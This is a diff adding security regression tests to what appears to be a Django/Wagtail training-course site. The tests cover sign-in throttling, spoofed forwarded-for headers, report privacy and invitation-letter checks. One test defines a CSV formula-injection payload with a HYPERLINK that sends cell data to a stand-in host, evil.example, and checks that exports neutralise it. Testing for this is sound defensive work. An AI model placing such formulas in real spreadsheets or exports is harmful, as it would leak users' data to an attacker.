@@ -127,7 +127,12 @@ def test_repeated_failed_sign_ins_are_throttled(client, start, settings):
     assert response.status_code == 429 or LOCKED_OUT in response.content.decode()
 
 
-# --- one way in: allauth's sign-in (tests/system/test_sign_in_doors.py walks every URL) --------
+# === Issue 15: one way in, the admin's door, files, one client address (holes 1, 6, 11, 12) ===
+# Each case below was reproduced on the code before the fix. The whole classes are covered by
+# tests/system/: test_sign_in_doors.py (every URL, every password form), test_matrix_site.py and
+# test_matrix_admin.py (every URL for nine roles), test_one_client_address.py (every throttle).
+
+# --- one way in: allauth's sign-in ---------------------------------------------------------------
 
 
 @pytest.mark.parametrize("url", ["/en/_util/login/", "/admin/login/"])
@@ -186,3 +191,112 @@ def test_a_spoofed_forwarded_for_header_does_not_escape_the_visit_request_limit(
             )
         answers.append(response.status_code)
     assert answers == [302, 302, 302, 429]
+
+
+# === Issue 15: exports, small counts, invitation letters (holes 5, 8 and 9) =====================
+# Each case below was reproduced on the code before the fix. The whole classes are covered by
+# tests/test_spreadsheet_exports.py (every export), tests/courses/test_reports_small_counts.py
+# (every report column for every non-staff role) and the letter's status rule.
+# The imports of this section stay inside its functions: other sections edit the module's header.
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+
+
+def _with_totp(user):
+    from allauth.mfa.models import Authenticator
+
+    Authenticator.objects.create(
+        user=user, type=Authenticator.Type.TOTP, data={"secret": "JBSWY3DPEHPK3PXP"}
+    )
+    return user
+
+
+def _csv_cells(response) -> list[str]:
+    import csv
+    import io
+
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_a_formula_in_a_course_title_stays_text_in_every_export(client, course_index):
+    staff = _with_totp(factories.SuperuserFactory())
+    course = factories.CoursePageFactory(parent=course_index, title=FORMULA)
+    course.save_revision(user=staff).publish(user=staff)
+    factories.EnrollmentFactory(run=factories.CourseRunFactory(course=course))
+    client.force_login(staff)
+    for path in (
+        "/admin/snippets/courses/courserun/",  # the course-run export
+        "/admin/training-reports/run/",
+        "/admin/training-reports/course/",
+        "/admin/reports/site-history/",  # Wagtail's own
+        "/admin/reports/aging-pages/",
+    ):
+        cells = _csv_cells(client.get(path, {"export": "csv"}))
+        assert not [cell for cell in cells if cell.startswith("=")], path
+        assert any(cell.startswith("'=HYPERLINK") for cell in cells), path
+
+
+def test_a_focal_point_cannot_read_a_lone_trainees_results_from_the_run_report(
+    client, run, settings
+):
+    from django.utils import timezone
+
+    from courses.choices import AssessmentKind, AttendanceStatus
+    from courses.models import Attempt, Attendance
+    from courses.services.nominations import appoint_focal_point
+
+    settings.LANGUAGE_CODE = "en"
+    pre = factories.AssessmentPageFactory(parent=run.course, kind=AssessmentKind.PRE_TEST)
+    enrollment = factories.EnrollmentFactory(
+        run=run, user=factories.TraineeFactory(profile__country="JO")
+    )
+    Attempt.objects.create(
+        enrollment=enrollment, assessment=pre, kind=pre.kind, number=1, seed=1, score=37,
+        submitted_at=timezone.now(),
+    )  # fmt: skip
+    session = factories.SessionFactory(run=run)
+    Attendance.objects.create(
+        session=session, enrollment=enrollment, status=AttendanceStatus.PRESENT
+    )
+    focal_point = _with_totp(factories.UserFactory())
+    appoint_focal_point(user=focal_point, country="JO")
+    client.force_login(focal_point)
+    response = client.get("/admin/training-reports/run/", {"export": "csv"})
+    cells = _csv_cells(response)
+    assert "37.0" not in cells  # the trainee's pre-test score
+    assert "100.0" not in cells  # the trainee's attendance
+    assert "37" not in client.get("/admin/training-reports/run/").content.decode()
+
+
+def test_training_hours_on_the_impact_page_are_shown_as_they_are(client, home_pages, course):
+    page = factories.ImpactPageFactory(parent=home_pages["ar"])
+    factories.translate_page(page, "en", title="Our impact")
+    run = factories.CourseRunFactory(course=course)  # a 24-hour course
+    for _ in range(3):
+        factories.EnrollmentFactory(run=run, status="completed")
+    html = client.get("/en/impact/").content.decode()
+    hours = html.split("Training hours", 1)[1].split("</div>", 1)[0]
+    assert "72" in hours and "fewer than 5" not in hours
+
+
+def test_a_withdrawn_trainees_letter_no_longer_says_they_are_invited(client, run):
+    from courses.services.enrollment import withdraw
+    from courses.services.nominations import issue_letter
+
+    enrollment = factories.EnrollmentFactory(run=run)
+    letter = issue_letter(enrollment=enrollment)
+    withdraw(enrollment=enrollment, by=enrollment.user)
+    html = client.get(f"/en/letters/{letter.code}/").content.decode()
+    assert "no longer valid" in html
+    assert "withdrew" in html
+
+
+def test_the_letter_check_is_throttled(client, run, settings):
+    from courses.services.nominations import issue_letter
+
+    settings.CERTIFICATE_VERIFY_LIMIT = 5
+    letter = issue_letter(enrollment=factories.EnrollmentFactory(run=run))
+    codes = [letter.code] + [f"ABCD-EFGH-{n:04d}" for n in range(5)]
+    answers = [client.get(f"/en/letters/{code}/").status_code for code in codes]
+    assert answers[-1] == 429
